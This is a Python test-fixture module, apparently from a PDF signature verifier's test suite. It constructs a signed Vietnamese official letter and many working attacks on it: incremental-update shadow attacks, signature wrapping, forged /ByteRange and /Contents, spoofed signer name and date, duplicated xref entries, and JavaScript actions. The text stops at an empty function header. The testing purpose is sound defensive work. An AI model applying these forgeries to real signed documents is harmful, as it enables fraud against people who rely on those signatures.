"""The attacks on signed PDFs that are published, and more of their kind: bytes in, bytes out. See `SOURCES.md`.

Everything is written by hand, object by object, so that a reader sees what an attacker does; keys and CMS are made in
`credentials.py`. No file is kept: tests make them with keys that nobody trusts anywhere else.
"""

import re
import struct
import zlib
from collections.abc import Callable, Mapping

Attack = Callable[[bytes], bytes]

CATALOG, PAGES, PAGE, SECOND_PAGE, CONTENT, RESOURCES, FORM = 1, 2, 3, 4, 5, 6, 7
NUMBER, DATE, LEADER, SEAL, LINK, FONT, GLYPHS, GLYPH, IMAGE = 9, 10, 11, 12, 13, 15, 16, 17, 18
LAYER, LAYERS, METADATA, NAMED_P, NAMED_PREV, SHADOW = 19, 20, 21, 22, 23, 30

FALSE_TEXT = b"BT /F1 30 Tf 80 600 Td (Chi tra 999 ty dong cho ong B) Tj ET"
COVER = b"1 g 0 0 460 200 re f 0 g BT /Helv 20 Tf 10 90 Td (Chi tra 999 ty dong) Tj ET"
RANGE_WIDTH = 60


# -- an honest letter, every object plain and numbered --


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


def drawing(data: bytes, width: int = 460, height: int = 200) -> bytes:
    """A form XObject that draws with the letter's own font."""
    return stream(
        data, b"/Type/XObject/Subtype/Form/BBox[0 0 %d %d]/Resources<</Font<</Helv 15 0 R>>>>" % (width, height)
    )


def field(name: bytes, kind: bytes, box: bytes, entries: bytes = b"") -> bytes:
    """A field and its widget on the first page."""
    start = b"<</Type/Annot/Subtype/Widget/FT/%b/T(%b)/Rect[%b]/F 4/P 3 0 R" % (kind, name, box)
    return start + entries + b"/DA(/Helv 12 Tf 0 g)>>"


LETTER: dict[int, bytes] = {
    CATALOG: b"<</Type/Catalog/Pages 2 0 R/AcroForm 7 0 R/Metadata 21 0 R/OCProperties<</OCGs[19 0 R]/D 20 0 R>>>>",
    PAGES: b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>",
    PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources 6 0 R"
    b"/Annots[9 0 R 10 0 R 11 0 R 12 0 R 13 0 R]>>",
    SECOND_PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 14 0 R/Resources 6 0 R>>",
    CONTENT: stream(
        b"BT /F1 14 Tf 80 700 Td (QUYET DINH: chi tra 1 ty dong cho ong A) Tj 0 -40 Td /F3 14 Tf (aaa) Tj ET "
        b"q 50 0 0 50 80 580 cm /Im0 Do Q /P Do /Prev Do /OC /Nen BDC BT /F1 9 Tf 80 540 Td (nen) Tj ET EMC"
    ),
    RESOURCES: b"<</Font<</F1 15 0 R/F3 16 0 R>>/XObject<</Im0 18 0 R/P 22 0 R/Prev 23 0 R>>"
    b"/Properties<</Nen 19 0 R>>>>",
    FORM: b"<</Fields[9 0 R 10 0 R 11 0 R 12 0 R]/DR<</Font<</Helv 15 0 R>>>>/DA(/Helv 12 Tf 0 g)/SigFlags 3>>",
    NUMBER: field(b"so_ky_hieu", b"Tx", b"60 730 200 750"),
    DATE: field(b"ngay_thang", b"Tx", b"300 730 520 750"),
    LEADER: field(b"ChuKyLanhDao", b"Sig", b"330 300 500 380"),
    SEAL: field(b"ConDau", b"Sig", b"270 200 390 290"),
    LINK: b"<</Type/Annot/Subtype/Link/Rect[80 100 200 120]/Border[0 0 0]/A<</S/URI/URI(https://example.org/)>>>>",
    14: stream(b"BT /F1 14 Tf 80 700 Td (Trang hai) Tj ET"),
    FONT: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
    GLYPHS: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
    b"/Encoding<</Type/Encoding/Differences[97/a]>>/CharProcs<</a 17 0 R>>/Resources<<>>>>",
    GLYPH: stream(b"9 0 0 0 9 9 d1 0 0 5 5 re f"),
    IMAGE: stream(b"\x7f", b"/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8"),
    LAYER: b"<</Type/OCG/Name(Nen)>>",
    LAYERS: b"<</ON[19 0 R]/Order[19 0 R]>>",
    METADATA: stream(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", b"/Type/Metadata/Subtype/XML"),
    NAMED_P: drawing(b"BT /Helv 9 Tf 80 520 Td (nguoi nhan: A) Tj ET", 595, 842),
    NAMED_PREV: drawing(b"BT /Helv 9 Tf 80 500 Td (so tien: 1) Tj ET", 595, 842),
}


def letter(changed: Mapping[int, bytes] | None = None, hidden: bytes = b"") -> bytes:
    """The letter before anybody signed, with some objects changed or more of them, `hidden` bytes before them."""
    return _written(LETTER | dict(changed or {}), frozenset(), hidden)


def packed_letter() -> bytes:
    """The same letter as modern programs write it: dictionaries in an object stream, an xref stream at the end."""
    plain = {n for n, body in LETTER.items() if b"endstream" in body}
    return _written(LETTER, frozenset(LETTER) - plain)


def _written(objects: Mapping[int, bytes], packed: frozenset[int], hidden: bytes = b"") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + hidden), {}
    for number, body in objects.items():
        if number not in packed:
            places[number] = (1, len(out), 0)
            out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    size = max(objects) + 1
    if not packed:
        start, entries = len(out), {0: b"0000000000 65535 f \n"}
        entries |= {n: b"%010d 00000 n \n" % place for n, (_, place, _) in places.items()}
        table = b"".join(entries.get(n, b"0000000000 00000 f \n") for n in range(size))
        out += b"xref\n0 %d\n%btrailer\n<</Size %d/Root 1 0 R>>\n" % (size, table, size)
    else:
        container, size = size, size + 2
        places[container] = (1, len(out), 0)
        places |= {n: (2, container, index) for index, n in enumerate(sorted(packed))}
        out += b"%d 0 obj\n%b\nendobj\n" % (container, container_of({n: objects[n] for n in sorted(packed)}))
        start = len(out)
        out += xref_stream(container + 1, places | {container + 1: (1, start, 0)}, b"/Size %d/Root 1 0 R" % size)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def container_of(objects: Mapping[int, bytes]) -> bytes:
    """An object stream that holds these objects."""
    heads, bodies = b"", b""
    for number, body in objects.items():
        heads += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    return stream(heads + bodies, b"/Type/ObjStm/N %d/First %d" % (len(objects), len(heads)))


def xref_stream(number: int, places: Mapping[int, tuple[int, int, int]], entries: bytes) -> bytes:
    """A whole cross-reference stream object that names `places`: (1, offset, generation) or (2, container, index)."""
    index = b" ".join(b"%d 1" % n for n in sorted(places))
    data = b"".join(struct.pack(">BIH", *places[n]) for n in sorted(places))
    body = stream(data, b"/Type/XRef/W[1 4 2]/Index[%b]%b" % (index, entries))
    return b"%d 0 obj\n%b\nendobj\n" % (number, body)


# -- reading and appending --


def latest(pdf: bytes, number: int) -> bytes:
    """The newest plain body of an object; the letter's own where it stands in an object stream."""
    found = re.findall(rb"(?<!\d)%d 0 obj\s+(.*?)\s*endobj" % number, pdf, re.DOTALL)
    return found[-1] if found else LETTER[number]


def number_of(pdf: bytes, name: bytes) -> int:
    """The object number of the field with that name, however it was written."""
    objects = re.findall(rb"(?<!\d)(\d+) 0 obj\s(.*?)endobj", pdf, re.DOTALL)
    plain = [(int(n), body) for n, body in objects if b"/ObjStm" not in body]
    named = [n for n, body in plain if re.search(rb"/T ?\(%b\)" % name, body)]
    return named[-1] if named else next(n for n, body in LETTER.items() if b"/T(%b)" % name in body)


def root_of(pdf: bytes) -> int:
    return int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])


def size_of(pdf: bytes) -> int:
    return max(int(n) for n in re.findall(rb"/Size (\d+)", pdf))


def startxref(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def with_entry(body: bytes, entry: bytes) -> bytes:
    """A dictionary with one entry more."""
    return body.replace(b"<<", b"<<" + entry, 1)


def changed(body: bytes, old: bytes, new: bytes) -> bytes:
    """The body with `old`, which must be there, replaced once."""
    assert old in body, (old, body)
    return body.replace(old, new, 1)


def without(body: bytes, pattern: bytes) -> bytes:
    """The body without an entry, which must be there."""
    rest, count = re.subn(pattern, b"", body, count=1)
    assert count, (pattern, body)
    return rest


def appended(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    freed: tuple[int, ...] = (),
    generation: int = 0,
    root: int | None = None,
    previous: int | None = None,
    trailer: bytes = b"",
) -> bytes:
    """One more revision, as every reader accepts it: objects, cross-reference table, trailer with /Prev."""
    out, lines = bytearray(pdf), {}
    for number, body in objects.items():
        lines[number] = b"%d 1\n%010d %05d n \n" % (number, len(out), generation)
        out += b"%d %d obj\n%b\nendobj\n" % (number, generation, body)
    lines |= {number: b"%d 1\n%010d %05d f \n" % (number, 0, 1) for number in freed}
    start = len(out)
    size = max(size_of(pdf), *(n + 1 for n in lines)) if lines else size_of(pdf)
    out += b"xref\n" + (b"".join(lines[n] for n in sorted(lines)) or b"0 0\n")
    before = startxref(pdf) if previous is None else previous
    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d%b>>\n" % (size, root or root_of(pdf), before, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def replacing(*bodies: tuple[int, bytes]) -> Attack:
    """The attack that appends a revision with these objects."""
    return lambda pdf: appended(pdf, dict(bodies))


def editing(number: int, old: bytes, new: bytes) -> Attack:
    """The attack that appends a revision in which one object says `new` instead of `old`."""
    return lambda pdf: appended(pdf, {number: changed(latest(pdf, number), old, new)})


def entering(number: int, entry: bytes, more: bytes | None = None) -> Attack:
    """The attack that appends a revision in which one dictionary has one entry more; NEW in it names `more`."""

    def enter(pdf: bytes) -> bytes:
        fresh = size_of(pdf)
        body = with_entry(latest(pdf, number), entry.replace(b"NEW", b"%d 0 R" % fresh))
        return appended(pdf, {number: body} if more is None else {number: body, fresh: more})

    return enter


def both(*attacks: Attack) -> Attack:
    """One attack after another."""

    def one_after_another(pdf: bytes) -> bytes:
        for attack in attacks:
            pdf = attack(pdf)
        return pdf

    return one_after_another


# -- signatures --


def open_signature(
    pdf: bytes,
    *,
    name: bytes,
    at: bytes,
    permission: int | None = None,
    locks: bytes | None = None,
    kind: bytes = b"/Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached",
    entries: bytes = b"",
    new: bytes | None = None,
    range_behind: bool = False,
    room: int = 16_000,
    look: bytes = b"0 0 1 RG 5 5 150 60 re S",
) -> bytes:
    """A revision in which the field `name` holds a signature that is still empty, with its ranges right.

    `new` is the box of a field that does not exist yet.
    """
    number, root = size_of(pdf), root_of(pdf)
    field_number = number_of(pdf, name) if new is None else number + 2
    around = {} if new is None else _around_new_field(pdf, field_number)
    references = b""
    catalog: dict[int, bytes] = {}
    if permission is not None:
        references += b"<</Type/SigRef/TransformMethod/DocMDP/TransformParams<</Type/TransformParams/V/1.2/P %d>>>>" % (
            permission
        )
        plain = re.sub(rb"/Perms<<[^>]*>>", b"", latest(pdf, root))
        catalog = {root: with_entry(plain, b"/Perms<</DocMDP %d 0 R>>" % number)}
    if locks is not None:
        references += (
            b"<</Type/SigRef/TransformMethod/FieldMDP/Data 1 0 R/TransformParams"
            b"<</Type/TransformParams/V/1.2/Action/Include/Fields[(%b)]>>>>" % locks
        )
    body = b"<<%b/M(%b)/Reason(Dong y ky va ban hanh van ban nay)/Name(Nguoi ky)" % (kind, at)
    words = b"/ByteRange[%b]" % (b" " * RANGE_WIDTH), b"/Contents<%b>" % (b"0" * room)
    body += b"".join(reversed(words) if range_behind else words)
    body += (b"/Reference[%b]" % references if references else b"") + entries + b">>"
    empty = latest(pdf, field_number) if new is None else field(name, b"Sig", new)
    widget = with_entry(empty, b"/V %d 0 R/AP<</N %d 0 R>>" % (number, number + 1))
    return ranged(appended(pdf, {field_number: widget, number: body, number + 1: drawing(look), **catalog, **around}))


def _around_new_field(pdf: bytes, number: int) -> dict[int, bytes]:
    """Form and page with one field more."""
    form = changed(latest(pdf, FORM), b"/Fields[", b"/Fields[%d 0 R " % number)
    page = changed(latest(pdf, PAGE), b"/Annots[", b"/Annots[%d 0 R " % number)
    return {FORM: form, PAGE: page}


def gaps(pdf: bytes) -> list[tuple[int, int]]:
    """Where the hexadecimal strings of the signatures lie, oldest first."""
    return [match.span(1) for match in re.finditer(rb"/Contents\s*(<[0-9A-Fa-f]{64,}>)", pdf)]


def with_range(pdf: bytes, numbers: tuple[object, ...], n: int = -1) -> bytes:
    """The same file with other words in the /ByteRange of one signature."""
    spans = [match.span(1) for match in re.finditer(rb"/ByteRange\s*\[([^\]]*)\]", pdf)]
    start, end = spans[n]
    text = " ".join(map(str, numbers)).encode()
    assert len(text) <= end - start
    return pdf[:start] + text.ljust(end - start) + pdf[end:]


def ranged(pdf: bytes) -> bytes:
    """The newest signature's /ByteRange as it should be: all but its own gap."""
    start, end = gaps(pdf)[-1]
    return with_range(pdf, (0, start, end, len(pdf) - end))


def range_of(pdf: bytes, n: int = -1) -> tuple[int, int, int, int]:
    found = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    one, two, three, four = map(int, found[n])
    return one, two, three, four


def covered(pdf: bytes, n: int = -1) -> bytes:
    """The bytes that a signature covers."""
    start, length, second, rest = range_of(pdf, n)
    return pdf[start : start + length] + pdf[second : second + rest]


def contents(pdf: bytes, n: int = -1) -> bytes:
    """What lies in the gap of a signature, zeros at its end included."""
    start, end = gaps(pdf)[n]
    return bytes.fromhex(pdf[start + 1 : end - 1].decode())


def filled_in(pdf: bytes, cms: bytes, n: int = -1) -> bytes:
    """The same file with another CMS in the gap of one signature."""
    start, end = gaps(pdf)[n]
    digits = cms.hex().upper().encode()
    assert len(digits) <= end - start - 2, (len(digits), end - start)
    return pdf[: start + 1] + digits.ljust(end - start - 2, b"0") + pdf[end - 1 :]


def signature_number(pdf: bytes, name: bytes = b"ChuKyLanhDao") -> int:
    """The object number of the signature that a field holds."""
    found = re.findall(rb"/V (\d+) 0 R", latest(pdf, number_of(pdf, name)))
    return int(found[-1])


def plain_signature(pdf: bytes, name: bytes = b"ChuKyLanhDao") -> bytes:
    return latest(pdf, signature_number(pdf, name))


# -- honest later revisions --


def filled(pdf: bytes, number: int = NUMBER, value: bytes = b"15/QD-UBND", shown: bytes | None = None) -> bytes:
    """A text field gets its value and is closed, as our own road does it."""
    place = size_of(pdf)
    look = drawing(b"BT /Helv 12 Tf 2 5 Td (%b) Tj ET" % (value if shown is None else shown), 140, 20)
    entry = b"/V(%b)/AP<</N %d 0 R>>/Ff 1" % (value, place)
    return appended(pdf, {number: with_entry(_emptied(latest(pdf, number)), entry), place: look})


def _emptied(body: bytes) -> bytes:
    return re.sub(rb"/V\([^)]*\)/AP<<[^>]*>>/Ff 1", b"", body)


def filled_with_date(pdf: bytes) -> bytes:
    return filled(filled(pdf), DATE, b"ngay 5 thang 3 nam 2026")


def with_proof(pdf: bytes, *proofs: bytes, kind: bytes = b"Certs") -> bytes:
    """A DSS is added: certificates, or other `kind`s of proof."""
    number = size_of(pdf)
    objects = {number + 1 + n: stream(proof) for n, proof in enumerate(proofs)}
    listed = b" ".join(b"%d 0 R" % n for n in objects)
    catalog = with_entry(latest(pdf, root_of(pdf)), b"/DSS %d 0 R" % number)
    return appended(pdf, {root_of(pdf): catalog, number: b"<</Type/DSS/%b[%b]>>" % (kind, listed), **objects})


def with_new_metadata(pdf: bytes) -> bytes:
    return editing(METADATA, b"xmpmeta ", b"xmpmeta  ")(pdf)


def written_again(pdf: bytes) -> bytes:
    """A program saves an object that it did not change."""
    return appended(pdf, {FONT: latest(pdf, FONT)})


def with_unused_object(pdf: bytes) -> bytes:
    return appended(pdf, {size_of(pdf): b"<</Nobody/Refers>>"})


def with_freed_number(pdf: bytes) -> bytes:
    """A number is freed that never was an object, as iText does."""
    return appended(pdf, {}, freed=(size_of(pdf),))


def with_cr_line_ends(pdf: bytes) -> bytes:
    """Blank line ends stand behind the end of the file."""
    return pdf + b"\r\r\n"


def with_new_field(pdf: bytes, name: bytes, box: bytes = b"0 0 0 0") -> bytes:
    """An empty signature field, listed on the page and in the form."""
    number = size_of(pdf)
    return appended(pdf, {number: field(name, b"Sig", box), **_around_new_field(pdf, number)})


# -- signature object: forged, wrapped, stored in, spoofed, removed --


def contents_saying(value: bytes | None) -> Attack:
    """Universal forgery: the field stays, its /Contents says nothing that can be checked."""

    def forge(pdf: bytes) -> bytes:
        start, end = gaps(pdf)[-1]
        if value is None:
            start -= len(b"/Contents")
        return pdf[:start] + (value or b"").ljust(end - start) + pdf[end:]

    return forge


def range_saying(value: bytes | None) -> Attack:
    """Universal forgery: the /ByteRange says nothing that can be checked."""

    def forge(pdf: bytes) -> bytes:
        start, end = [match.span() for match in re.finditer(rb"/ByteRange\s*\[[^\]]*\]", pdf)][-1]
        words = b"" if value is None else b"/ByteRange " + value
        return pdf[:start] + words.ljust(end - start) + pdf[end:]

    return forge


def range_of_reals(pdf: bytes) -> bytes:
    return with_range(pdf, tuple(f"{n}.0" for n in range_of(pdf)))


def range_by_reference(pdf: bytes) -> bytes:
    """The numbers are names of objects that a later revision brings."""
    first = size_of(pdf)
    numbers = range_of(pdf)
    said = with_range(pdf, tuple(f"{first + n} 0 R" for n in range(4)))
    return appended(said, {first + n: b"%d" % value for n, value in enumerate(numbers)})


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed block moves to the end; before it lie a new /ByteRange and a false page."""
    _, start, second, rest = range_of(pdf)
    signed_table, block = startxref(pdf), pdf[second : second + rest]
    first_part = pdf[:second]
    number, widget = signature_number(pdf), LEADER

    def built(behind: int) -> bytes:
        words = b"/ByteRange[%b]" % b"0 %d %d %d" % (start, behind, rest)
        out = bytearray(first_part + words.ljust(RANGE_WIDTH + 12) + b">>\nendobj\n")
        out += b" " * (signed_table - len(out))
        assert len(out) == signed_table
        objects = {CONTENT: stream(FALSE_TEXT)}
        found = {n: pdf.rindex(b"\n%d 0 obj" % n) + 1 for n in (widget, number, number + 1)}
        found[number + 1] += behind - second
        place = len(out) + 300
        found[CONTENT] = place
        table = b"xref\n" + b"".join(b"%02d 1\n%010d 00000 n \n" % (n, found[n]) for n in sorted(found))
        previous = int(re.findall(rb"/Prev (\d+)", pdf)[-1])
        table += b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\n" % (size_of(pdf), previous)
        out += table.ljust(place - len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (CONTENT, objects[CONTENT])
        return bytes(out)

    length = len(built(10**6))
    behind = len(built(length))
    return built(behind) + block


def more_in_the_gap(pdf: bytes) -> bytes:
    """The gap is one byte wider than the signature: a comment hides between."""
    start, end = gaps(pdf)[-1]
    return with_range(pdf[: end - 2] + b">%" + pdf[end:], (0, start, end, len(pdf) - end))


def comment_in_the_gap(pdf: bytes) -> bytes:
    """Part of the zeros becomes a second entry of the dictionary, in the gap."""
    end = gaps(pdf)[-1][1]
    words = b">/Name(Chu tich)/Filler<"
    cut = end - 200
    return pdf[:cut] + words + pdf[cut + len(words) :]


def bytes_behind_the_cms(pdf: bytes) -> bytes:
    """Unsigned storage: something lies between the CMS and the end of /Contents."""
    end = gaps(pdf)[-1][1]
    hidden = b"Van ban khac".hex().upper().encode()
    return pdf[: end - 1 - len(hidden)] + hidden + pdf[end - 1 :]


def signed_byte_flipped(pdf: bytes) -> bytes:
    return changed(pdf, b"chi tra 1 ty", b"chi tra 9 ty")


def cms_nibble_flipped(pdf: bytes) -> bytes:
    """One nibble of the signature value, near the end of the CMS."""
    start, _ = gaps(pdf)[-1]
    data = contents(pdf)
    length = 4 + int.from_bytes(data[2:4])
    place = start + 1 + 2 * (length - 40)
    other = b"0" if pdf[place : place + 1] != b"0" else b"1"
    return pdf[:place] + other + pdf[place + 1 :]


def reason_spoofed(pdf: bytes) -> bytes:
    number = signature_number(pdf)
    return editing(number, b"/Reason(Dong y", b"/Reason(Tu choi")(pdf)


def name_spoofed(pdf: bytes) -> bytes:
    return editing(signature_number(pdf), b"/Name(Nguoi ky)", b"/Name(Chu tich tinh)")(pdf)


def moment_spoofed(pdf: bytes) -> bytes:
    number = signature_number(pdf)
    body = re.sub(rb"/M\(D:\d{4}", b"/M(D:2019", latest(pdf, number))
    return appended(pdf, {number: body})


def picture_overwritten(pdf: bytes) -> bytes:
    """The picture of the signed field is exchanged in its own object."""
    number = int(re.findall(rb"/AP<</N (\d+) 0 R>>", latest(pdf, LEADER))[-1])
    return appended(pdf, {number: drawing(b"BT /Helv 12 Tf 5 5 Td (Chu tich tinh) Tj ET")})


def picture_exchanged(pdf: bytes) -> bytes:
    """The signed field shows another object."""
    number = size_of(pdf)
    widget = re.sub(rb"/AP<</N \d+ 0 R>>", b"/AP<</N %d 0 R>>" % number, latest(pdf, LEADER))
    return appended(pdf, {LEADER: widget, number: drawing(b"BT /Helv 12 Tf 5 5 Td (Chu tich tinh) Tj ET")})


def signed_field_moved(pdf: bytes) -> bytes:
    return editing(LEADER, b"330 300 500 380", b"80 540 500 720")(pdf)


def looks_sealed(pdf: bytes) -> bytes:
    """The seal's field points at the leader's signature."""
    return entering(SEAL, b"/V %d 0 R" % signature_number(pdf))(pdf)


def form_removed(pdf: bytes) -> bytes:
    return appended(pdf, {CATALOG: without(latest(pdf, CATALOG), rb"/AcroForm 7 0 R")})


def signature_removed(pdf: bytes) -> bytes:
    return appended(pdf, {LEADER: without(latest(pdf, LEADER), rb"/V \d+ 0 R")})


def field_removed(pdf: bytes) -> bytes:
    page = changed(latest(pdf, PAGE), b" 11 0 R", b"")
    return appended(pdf, {FORM: changed(latest(pdf, FORM), b" 11 0 R", b""), PAGE: page})


def field_off_the_page(pdf: bytes) -> bytes:
    """The signed field stays in the form, and no page shows it."""
    return editing(PAGE, b" 11 0 R", b"")(pdf)


# -- incremental saving --


content_overwritten = replacing((CONTENT, stream(FALSE_TEXT)))
font_overwritten = editing(FONT, b"/Helvetica", b"/Symbol")
glyph_overwritten = replacing((GLYPH, stream(b"9 0 0 0 9 9 d1 4 4 5 5 re f")))
image_overwritten = editing(IMAGE, b"/Width 1/Height 1", b"/Width 1/Height 1/Decode[1 0]")
resources_overwritten = editing(RESOURCES, b"/F1 15 0 R", b"/F1 16 0 R")
named_p_overwritten = replacing((NAMED_P, drawing(b"BT /Helv 9 Tf 80 520 Td (nguoi nhan: B) Tj ET", 595, 842)))
named_prev_overwritten = replacing((NAMED_PREV, drawing(b"BT /Helv 9 Tf 80 500 Td (so tien: 9) Tj ET", 595, 842)))
page_turned = entering(PAGE, b"/Rotate 180")
page_cropped = entering(PAGE, b"/CropBox[0 0 595 400]")
page_scaled = entering(PAGE, b"/UserUnit 2")
pages_swapped = editing(PAGES, b"[3 0 R 4 0 R]", b"[4 0 R 3 0 R]")
page_removed = editing(PAGES, b"[3 0 R 4 0 R]/Count 2", b"[3 0 R]/Count 1")
layer_hidden = editing(LAYERS, b"/ON[19 0 R]", b"/OFF[19 0 R]")
annotation_removed = editing(PAGE, b" 13 0 R", b"")
link_redirected = editing(LINK, b"example.org", b"example.net")
link_runs_a_script = editing(LINK, b"/S/URI/URI(https://example.org/)", b"/S/JavaScript/JS(app.alert\\(1\\))")
link_listens = entering(LINK, b"/AA<</E<</S/JavaScript/JS(app.alert\\(1\\))>>>>")
field_listens = entering(NUMBER, b"/AA<</C<</S/JavaScript/JS(event.value=9)>>>>")
page_listens = entering(PAGE, b"/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>")
opens_a_script = entering(CATALOG, b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
opens_elsewhere = entering(CATALOG, b"/OpenAction[4 0 R/Fit]")
names_a_script = entering(CATALOG, b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>")
embeds_a_file = entering(
    CATALOG,
    b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.txt)/EF<</F NEW>>>>]>>>>",
    stream(b"van ban khac", b"/Type/EmbeddedFile"),
)
xfa_added = entering(FORM, b"/XFA NEW", stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))


def content_exchanged(pdf: bytes) -> bytes:
    number = size_of(pdf)
    page = changed(latest(pdf, PAGE), b"/Contents 5 0 R", b"/Contents %d 0 R" % number)
    return appended(pdf, {PAGE: page, number: stream(FALSE_TEXT)})


def page_added(pdf: bytes) -> bytes:
    number = size_of(pdf)
    page = changed(LETTER[SECOND_PAGE], b"/Contents 14 0 R", b"/Contents %d 0 R" % (number + 1))
    pages = changed(latest(pdf, PAGES), b"4 0 R]/Count 2", b"4 0 R %d 0 R]/Count 3" % number)
    return appended(pdf, {PAGES: pages, number: page, number + 1: stream(FALSE_TEXT)})


def page_exchanged(pdf: bytes) -> bytes:
    number = size_of(pdf)
    page = changed(latest(pdf, PAGE), b"/Contents 5 0 R", b"/Contents %d 0 R" % (number + 1))
    pages = changed(latest(pdf, PAGES), b"[3 0 R", b"[%d 0 R" % number)
    return appended(pdf, {PAGES: pages, number: page, number + 1: stream(FALSE_TEXT)})


def key_said_twice(number: int, first: bytes, second: bytes, extra: Mapping[int, bytes]) -> Attack:
    """A dictionary says one key twice: readers that believe the first and the last see different things."""

    def say(pdf: bytes) -> bytes:
        return appended(pdf, {number: changed(latest(pdf, number), first, first + second), **extra})

    return say


FALSE_PAGE = {
    90: b"<</Type/Pages/Kids[91 0 R]/Count 1>>",
    91: b"<</Type/Page/Parent 90 0 R/MediaBox[0 0 595 842]/Contents 92 0 R/Resources 6 0 R>>",
    92: stream(FALSE_TEXT),
    93: changed(LETTER[CATALOG], b"/Pages 2 0 R", b"/Pages 90 0 R"),
}


def entry_said_twice(false_first: bool) -> Attack:
    """The new table has two entries for the page's content: where it was, and where the false one is."""

    def say(pdf: bytes) -> bytes:
        true, false = pdf.rindex(b"\n5 0 obj") + 1, len(pdf)
        out = pdf + b"5 0 obj\n%b\nendobj\n" % stream(FALSE_TEXT)
        places = (false, true) if false_first else (true, false)
        table = b"xref\n" + b"".join(b"5 1\n%010d 00000 n \n" % place for place in places)
        words = b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\n" % (size_of(pdf), startxref(pdf))
        return out + table + words + b"startxref\n%d\n%%%%EOF\n" % len(out)

    return say


def entry_said_twice_in_a_stream(false_first: bool) -> Attack:
    """The same with a cross-reference stream."""

    def say(pdf: bytes) -> bytes:
        true, false, number = pdf.rindex(b"\n5 0 obj") + 1, len(pdf), size_of(pdf)
        out = pdf + b"5 0 obj\n%b\nendobj\n" % stream(FALSE_TEXT)
        places = (false, true) if false_first else (true, false)
        data = b"".join(struct.pack(">BIH", 1, place, 0) for place in (*places, len(out)))
        words = b"/Type/XRef/W[1 4 2]/Index[5 1 5 1 %d 1]" % number
        words += b"/Size %d/Root 1 0 R/Prev %d" % (number + 1, startxref(pdf))
        return out + b"%d 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (number, stream(data, words), len(out))

    return say


def root_said_twice(false_first: bool) -> Attack:
    """The new trailer says /Root twice."""

    def say(pdf: bytes) -> bytes:
        if false_first:
            return appended(pdf, FALSE_PAGE, root=93, trailer=b"/Root 1 0 R")
        return appended(pdf, FALSE_PAGE, trailer=b"/Root 93 0 R")

    return say


def catalog_exchanged(pdf: bytes) -> bytes:
    """The trailer names another catalog, which shows another page."""
    number = size_of(pdf)
    catalog = changed(latest(pdf, CATALOG), b"/Pages 2 0 R", b"/Pages %d 0 R" % (number + 1))
    objects = {
        number: catalog,
        number + 1: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 2),
        number + 2: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R/Resources 6 0 R>>"
        % (number + 1, number + 3),
        number + 3: stream(FALSE_TEXT),
    }
    return appended(pdf, objects, root=number)


def page_box_through_parent(pdf: bytes) -> bytes:
    """What a page inherits is changed above it."""
    return entering(PAGES, b"/Rotate 90")(pdf)


def _objects_only(pdf: bytes) -> bytes:
    return pdf + b"%d 0 obj\n%b\nendobj\n" % (CONTENT, stream(FALSE_TEXT))


objects_without_table = _objects_only


def objects_with_empty_table(pdf: bytes) -> bytes:
    out = _objects_only(pdf)
    return out + b"xref\n0 0\ntrailer\n<</Size %d/Root 1 0 R/Prev %d>>\n" % (size_of(pdf), startxref(pdf))


def objects_with_broken_table(pdf: bytes) -> bytes:
    out = _objects_only(pdf)
    return out + b"xref\nnothing\ntrailer\n<</Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def objects_with_trailer_only(pdf: bytes) -> bytes:
    return _objects_only(pdf) + b"trailer\n<</Root 1 0 R>>\n"


def objects_with_wrong_place(pdf: bytes) -> bytes:
    """A whole end, whose startxref leads nowhere."""
    out = _objects_only(pdf)
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size_of(pdf), len(out) + 99)


def objects_with_copied_signature(pdf: bytes) -> bytes:
    number = signature_number(pdf)
    return _objects_only(pdf) + b"%d 0 obj\n%b\nendobj\ntrailer\n<</Root 1 0 R>>\n" % (number, latest(pdf, number))


def copied_signature_at_the_end(pdf: bytes) -> bytes:
    """A real revision with false content and a copy of the signature dictionary."""
    number = signature_number(pdf)
    return appended(pdf, {CONTENT: stream(FALSE_TEXT), number: latest(pdf, number)})


def bytes_after_the_end(pdf: bytes) -> bytes:
    return pdf + b"\nvan ban khac\n"


def second_file_after_the_end(pdf: bytes) -> bytes:
